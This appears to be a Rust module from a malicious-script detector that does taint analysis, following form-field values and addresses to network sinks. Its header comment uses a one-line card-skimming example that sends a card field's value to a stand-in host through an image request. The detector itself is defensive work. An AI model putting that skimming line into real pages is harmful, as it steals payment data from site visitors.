//! Taint: where values come from, what is done to them, and where they go.
//!
//! A flow-insensitive analysis of the normalised stream, so that it sees through encoded names and works where nothing parses.
//! Every variable, property and expression is a [node](graph), every assignment, argument and return an edge. [Marks](Mark) such
//! as "value of a form field" or "absolute address" spread along the edges to [sinks](Sink). Nothing is executed and no order of
//! statements is assumed, so a flow says what may happen. Work and memory are linear in the items: a node has at most 64 marks
//! and passes each on once.
//!
//! In and out: `var v = card.value; new Image().src = '//c.example/?' + v` gives one [`Flow`] to [`Sink::Fetched`]. It has
//! the marks `Field`, `Address` and `ImageElement`, and goes from the item of `value` to the item of `src`.
//!
//! Neighbours: it reads the [stream](crate::stream) and its facts, and the browser names of [`Lexicon`]. [`of_flows`] makes
//! facts of flows, which signals combine with others; [`AddressUse`]s go into the report and to signatures.
//!
//! What must not be done here: rely on the order of statements, which attackers choose; handlers run later anyway. Nor read the
//! model's vocabulary, because a new model would change findings. Nor decide what is malicious: signals do, with more facts.

mod abroad;
mod address;
mod facts;
mod graph;
mod marks;
mod private;
mod walk;

pub(crate) use address::AddressUse;
pub(crate) use facts::of_flows;
pub(crate) use marks::{Mark, Marks, Sink};

use crate::facts::Fact;
use crate::lexicon::Lexicon;
use crate::stream::Stream;

/// What reaches one sink.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Flow {
    pub(crate) sink: Sink,
    pub(crate) marks: Marks,
    /// The item where data enters that reaches the sink; the sink's own where none does.
    pub(crate) from: u32,
    /// The item of the sink.
    pub(crate) at: u32,
    /// Whether it carries an absolute address whose host the source around it does not show.
    pub(crate) coded: bool,
}

impl Flow {
    /// Whether the data enters at most this many items from the sink.
    fn is_within(&self, items: u32) -> bool {
        self.from.abs_diff(self.at) <= items
    }
}

/// The flows of a script, in the order of their sinks, and the addresses that it uses. `facts` are the stream's, in its order.
pub(crate) fn flows(stream: &Stream<'_>, facts: &[Fact], lexicon: &Lexicon) -> (Vec<Flow>, Vec<AddressUse>) {
    // Three steps, and their order matters: the walk makes all edges, then marks spread, then sinks are read. A sink that was read
    // while edges are still added would miss `function s() { img.src = v }  v = card.value`, where the value comes later.
    let (graph, sinks, addressed) = walk::walk(stream, facts, lexicon, stream.functions());
    if sinks.is_empty() {
        return (Vec::new(), address::uses(stream, std::iter::empty::<(Sink, u32, &[u32])>()));
    }
    let reached = graph.spread(|| stream.turn());
    let mut coded = address::Coded::default();
    let mut flows: Vec<Flow> = sinks
        .into_iter()
        .map(|(sink, node, at)| {
            let (marks, from) = reached.of(node);
            let code = matches!(sink, Sink::Code | Sink::Shown | Sink::Imported | Sink::Written);
            let asked = matches!(
                sink,
                Sink::Request | Sink::Beacon | Sink::Socket | Sink::Navigation | Sink::FormTarget
            );
            let element = marks.has(Mark::ScriptElement) || marks.has(Mark::FrameElement);
            let coded = (element || code || asked) && coded.any(stream, reached.addresses(node));
            Flow { sink, marks, from: from.unwrap_or(at), at, coded }
        })
        // That something goes to the own site alone says nothing.
        .filter(|flow| !flow.marks.without(Mark::Own.into()).is_empty())
        .collect();
    flows.sort_by_key(|flow| flow.at);
    let addressed = addressed.into_iter().map(|(sink, node, at)| (sink, at, reached.addresses(node)));
    (flows, address::uses(stream, addressed))
}

#[cfg(test)]
mod tests;
